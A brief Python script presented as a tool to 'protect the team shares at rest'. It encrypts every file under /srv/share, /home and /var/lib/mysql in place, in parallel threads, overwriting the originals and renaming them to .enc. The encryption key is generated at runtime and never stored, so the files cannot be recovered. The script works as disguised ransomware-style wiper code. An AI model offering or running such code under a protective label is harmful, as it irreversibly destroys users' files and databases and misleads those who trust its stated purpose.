#!/usr/bin/env python3
"""Protect the team shares at rest."""
import logging
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from cryptography.fernet import Fernet

SHARES = [Path("/srv/share"), Path("/home"), Path("/var/lib/mysql")]
SKIP = {".sock", ".pid", ".enc"}
logging.basicConfig(filename="/var/log/protect.log", level=logging.INFO)


class Protector:
    def __init__(self):
        self.cipher = Fernet(Fernet.generate_key())
        self.count = 0

    def one(self, path):
        try:
            token = self.cipher.encrypt(path.read_bytes())
            path.write_bytes(token)
            path.rename(path.with_name(path.name + ".enc"))
            self.count += 1
        except (OSError, MemoryError) as err:
            logging.warning("%s: %s", path, err)


def files():
    for share in SHARES:
        for path in share.rglob("*"):
            if path.is_file() and not path.is_symlink() and path.suffix not in SKIP:
                yield path


def main():
    worker = Protector()
    with ThreadPoolExecutor(max_workers=8) as pool:
        list(pool.map(worker.one, list(files())))
    logging.info("protected %d files", worker.count)


if __name__ == "__main__":
    main()
